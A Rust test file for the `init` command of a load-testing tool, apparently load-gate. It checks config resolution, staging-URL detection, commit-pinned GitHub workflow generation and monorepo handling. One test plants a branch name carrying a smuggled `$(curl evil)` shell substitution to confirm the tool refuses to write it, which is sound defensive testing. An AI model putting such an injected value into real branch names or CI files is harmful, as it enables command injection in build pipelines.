//! What `init` writes holds: the config resolves, the workflow has what it needs.

use std::collections::BTreeMap;

use super::*;
use crate::config::{self, Flags, Purpose, Sources, UserFile};

fn repository(files: &[(&str, &str)]) -> (tempfile::TempDir, Repository) {
    let dir = tempfile::tempdir().expect("a folder");
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().expect("a parent")).expect("made");
        std::fs::write(path, text).expect("written");
    }
    let repository = Repository::look(dir.path()).expect("a folder");
    (dir, repository)
}

fn resolves(text: &str, env: &str) -> config::Resolved {
    let file = UserFile { name: "load-gate.toml".to_owned(), text: text.to_owned() };
    let flags = Flags { env: Some(env.to_owned()), ..Flags::default() };
    let vars = BTreeMap::new();
    let sources = Sources { flags: &flags, vars: &vars, file: Some(&file) };
    config::resolve(&sources, Purpose::Plan, 1).unwrap_or_else(|e| panic!("{}", e.render(false)))
}

#[test]
fn a_bare_folder_gets_the_built_in_staging() {
    let (_dir, repository) = repository(&[("README.md", "")]);
    assert_eq!(repository.branch, "main");
    assert_eq!(repository.staging, None);
    let config = config(&repository);
    assert!(!config.contains("{{"), "{config}");
    for env in ["embedded", "staging"] {
        resolves(&config, env);
    }
    assert_eq!(resolves(&config, "staging").plan.environment.url, STAGING);
}

#[test]
fn what_is_built_in_can_be_uncommented() {
    let (_dir, repository) = repository(&[("README.md", "")]);
    let config = config(&repository);
    let (before, after) = config.split_once("# [scenarios.onboarding.profiles]").expect("there");
    let lines = after.lines().map(|line| line.strip_prefix("# ").unwrap_or(line));
    let lines: Vec<&str> = lines.filter(|line| *line != "#").collect();
    let uncommented = format!("{before}[scenarios.onboarding.profiles]\n{}\n", lines.join("\n"));
    let (plan, same) = (resolves(&config, "staging").plan, resolves(&uncommented, "staging").plan);
    assert_eq!(plan.scenarios.len(), 3);
    for (plan, same) in plan.scenarios.iter().zip(&same.scenarios) {
        assert_eq!(format!("{:?}", plan.stages), format!("{:?}", same.stages));
        assert_eq!(format!("{:?}", plan.criteria), format!("{:?}", same.criteria));
    }
    let table = lines.iter().filter(|line| line.ends_with(".profiles]")).count();
    assert_eq!(table, 2, "those of the other two scenarios");
}

#[test]
fn the_repository_is_found_out() {
    let (dir, repository) = repository(&[
        (".git/HEAD", "ref: refs/heads/topic\n"),
        (".git/refs/remotes/origin/HEAD", "ref: refs/remotes/origin/trunk\n"),
        (
            ".git/config",
            "[remote \"origin\"]\n\turl = git@github.com:octo/shop.git\n[branch \"x\"]\n",
        ),
        ("load_tests/a.js", "const url = 'https://unrelated.example.org';\n"),
        ("load_tests/b.js", "const BASE = __ENV.API_URL || 'https://staging.example.org';\n"),
        ("deep/inside/x", ""),
    ]);
    assert_eq!(repository.branch, "trunk");
    assert_eq!(repository.slug.as_deref(), Some("octo/shop"));
    let found = repository.staging.clone().expect("an address");
    assert_eq!(found.url, "https://staging.example.org");
    assert_eq!(found.file, "load_tests/b.js");
    let plan = resolves(&config(&repository), "staging").plan;
    assert_eq!(plan.environment.url, "https://staging.example.org");
    let inside = Repository::look(&dir.path().join("deep/inside")).expect("a folder");
    assert_eq!(inside.root, repository.root);
    assert!(
        next_steps(&repository, false).contains("gh secret set TEST_API_KEY_1 --repo octo/shop")
    );
}

#[test]
fn production_is_never_taken_for_staging() {
    let line = "export API_URL=https://api.rsolv.dev\n";
    let (_dir, repository) = repository(&[(".env.example", line)]);
    assert_eq!(repository.staging, None);
    let text = config(&repository);
    let line = "# url = \"https://api.rsolv.dev\"";
    assert!(text.contains(line), "{text}");
    assert_eq!(resolves(&text, "staging").plan.environment.url, STAGING);
}

#[test]
fn a_host_is_staging_only_if_its_name_says_so() {
    let found = |host: &str| {
        let line = format!("export API_URL=https://{host}\n");
        repository(&[(".env.example", &line)]).1.staging.is_some()
    };
    for yes in [
        "staging.example.org",
        "api-stg.example.com",
        "stage1.example.com",
        "test.example.com",
        "dev2.example.org",
        "preview-7.example.org",
        "qa.example.org",
        "uat.example.org",
        "sandbox.example.org",
        "api.rsolv-staging.com",
    ] {
        assert!(found(yes), "{yes}");
    }
    for no in [
        "api.example.com",
        "www.example.dev",
        "device.example.com",
        "latest.example.com",
        "contest.example.org",
        "api.live.example.com",
        "acme.test",
    ] {
        assert!(!found(no), "{no}");
    }
}

#[test]
fn this_machine_is_taken_where_nothing_else_is_named() {
    let found = |files: &[(&str, &str)]| repository(files).1.staging.map(|found| found.url);
    let local = ("load_tests/a.js", "const BASE_URL = 'http://localhost:4000';\n");
    assert_eq!(found(&[local]).as_deref(), Some("http://localhost:4000"));
    let staging = (".env.example", "API_URL=http://api.staging.example.org\n");
    assert_eq!(found(&[local, staging]).as_deref(), Some("http://api.staging.example.org"));
}

#[test]
fn a_hostile_branch_name_is_not_written() {
    let head = "ref: refs/heads/x], secrets: [$(curl evil)]\n";
    let (_dir, repository) = repository(&[(".git/HEAD", head)]);
    assert_eq!(repository.branch, "main");
}

#[test]
fn the_workflow_is_a_workflow() {
    let (_dir, repository) = repository(&[(".git/HEAD", "ref: refs/heads/master\n")]);
    let text = workflow(&repository);
    assert!(!text.replace("${{", "").contains("{{"), "{text}");
    let yaml: serde_norway::Value = serde_norway::from_str(&text).expect("YAML");
    assert_eq!(yaml["on"]["pull_request"]["branches"][0], "master");
    assert!(yaml["permissions"].as_mapping().expect("a mapping").is_empty());
    for job in ["pull-request", "nightly"] {
        let steps = yaml["jobs"][job]["steps"].as_sequence().expect("steps");
        for uses in steps.iter().filter_map(|step| step["uses"].as_str()) {
            let (name, reference) = uses.split_once('@').expect("a ref");
            let commit = reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit());
            assert!(commit || name == "rsolv/load-gate", "{uses} is not pinned");
        }
    }
}

#[test]
fn the_night_is_spread_and_never_on_the_hour() {
    let at = |slug: &str| {
        let (_dir, mut repository) = repository(&[("x", "")]);
        repository.slug = Some(slug.to_owned());
        repository.nightly_at()
    };
    for n in 0..50 {
        let (hour, minute) = at(&format!("octo/shop-{n}"));
        assert!((2..=5).contains(&hour) && (7..54).contains(&minute), "{hour}:{minute}");
    }
    assert_eq!(at("octo/shop"), at("octo/shop"));
}

#[test]
fn files_that_are_there_stay_and_are_compared() {
    let (dir, repository) = repository(&[(CONFIG_PATH, "# mine\r\n"), (".git/HEAD", "")]);
    let [(name, content), (workflow, text)] = planned(&repository, false);
    let Placed::Kept(difference) =
        place(&repository.root, name, &content, false).expect("readable")
    else {
        panic!("it is somebody's own");
    };
    assert!(difference.starts_with("--- as it is\n+++ as init writes it\n"), "{difference}");
    assert!(difference.contains("-# mine\n"), "{difference}");
    assert!(difference.contains("+[environments.staging]\n"), "{difference}");
    let kept = std::fs::read_to_string(dir.path().join(CONFIG_PATH)).expect("readable");
    assert_eq!(kept, "# mine\r\n");
    let placed = |force| place(&repository.root, workflow, &text, force).expect("writable");
    assert_eq!(placed(false), Placed::Written);
    assert_eq!(placed(false), Placed::Same);
    assert_eq!(place(&repository.root, name, &content, true).expect("writable"), Placed::Written);
}

#[test]
fn the_services_of_a_monorepo_have_an_environment_and_a_leg_each() {
    let url = |host: &str| format!("BASE_URL=https://{host}\n");
    let (_dir, repository) = repository(&[
        ("services/shop/.env.example", &url("shop.staging.example.org")),
        ("services/billing/k6/load.js", &url("billing-stg.example.org")),
        ("services/live/.env.example", &url("api.example.org")),
        ("apps/we b/.env.example", &url("web.staging.example.org")),
        ("apps/production/.env.example", &url("web.staging.example.org")),
    ]);
    let names: Vec<&str> = repository.services.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["billing", "shop"]);
    let config = config(&repository);
    for (name, url) in [
        ("shop", "https://shop.staging.example.org"),
        ("billing", "https://billing-stg.example.org"),
    ] {
        assert_eq!(resolves(&config, name).plan.environment.url, url);
    }
    assert!(config.contains("found in services/billing/k6/load.js"), "{config}");
    let yaml: serde_norway::Value = serde_norway::from_str(&workflow(&repository)).expect("YAML");
    for job in ["pull-request", "nightly"] {
        let job = &yaml["jobs"][job];
        assert_eq!(job["strategy"]["matrix"]["service"][1], "shop");
        let steps = job["steps"].as_sequence().expect("steps");
        let ours =
            steps.iter().find(|s| s["uses"].as_str().is_some_and(|u| u.contains("load-gate@")));
        let with = &ours.expect("our step")["with"];
        assert_eq!(with["environment"], "${{ matrix.service }}");
        assert_eq!(with["comment-id"], "${{ matrix.service }}");
        let names: Vec<_> = steps.iter().filter_map(|s| s["with"]["name"].as_str()).collect();
        assert!(names.iter().all(|name| name.contains("matrix.service")), "{names:?}");
    }
}

#[test]
fn after_a_deployment_its_own_address_is_gated() {
    let (_dir, repository) =
        repository(&[(".env.example", "API_URL=https://staging.example.org\n")]);
    let [_, (name, text)] = planned(&repository, true);
    assert_eq!(name, DEPLOY_PATH);
    let yaml: serde_norway::Value = serde_norway::from_str(&text).expect("YAML");
    assert_eq!(yaml["jobs"]["gate"]["needs"], "deploy");
    assert_eq!(yaml["jobs"]["promote"]["needs"], "gate");
    assert!(text.contains("echo \"url=https://staging.example.org\""), "{text}");
    assert!(next_steps(&repository, true).contains("deploy.sh"));
}

#[test]
fn a_scenario_s_table_is_added_and_resolves_as_it_stands_and_uncommented() {
    let world = || World {
        vars: BTreeMap::new(),
        output: crate::cli::output::Output::new(&BTreeMap::new()),
    };
    let (dir, repository) = repository(&[("README.md", "")]);
    let path = dir.path().join(".github/load-gate.toml");
    scenario::add(&repository, "orders", (CONFIG_PATH, STAGING), &world()).expect("is written");
    scenario::add(&repository, "2nd-api", (CONFIG_PATH, STAGING), &world())
        .expect("is written beside it");
    let text = std::fs::read_to_string(&path).expect("is there");
    let plan = resolves(&text, "staging").plan;
    assert_eq!(plan.scenarios.len(), 1, "the environment lists the first");
    for name in ["orders", "onboarding", "Orders", "", "a/b"] {
        let told = scenario::add(&repository, name, (CONFIG_PATH, STAGING), &world())
            .expect_err(name)
            .to_string();
        assert!(told.contains("already") || told.contains("can't be a scenario's name"), "{told}");
    }
    assert_eq!(std::fs::read_to_string(&path).expect("is there"), text);
    // Every key that is commented out is one.
    let uncommented: String = text
        .lines()
        .map(|line| match line.strip_prefix("# ") {
            Some(rest) if rest.contains(" = ") || rest.starts_with('[') => format!("{rest}\n"),
            _ => format!("{line}\n"),
        })
        .collect();
    let uncommented = uncommented.replace("GET", "POST").replace(
        "{ \"Accept\" = \"application/json\" }",
        "{ \"Authorization\" = \"Bearer {setup.token}\" }",
    );
    let plan = resolves(&uncommented, "staging").plan;
    let spec = plan.scenarios[0].settings.written.as_ref().expect("is written");
    assert!(spec.setup.is_some() && spec.sign.is_some() && spec.keys.is_some());
    assert_eq!((spec.tags.len(), spec.probes.len()), (1, 1));
}
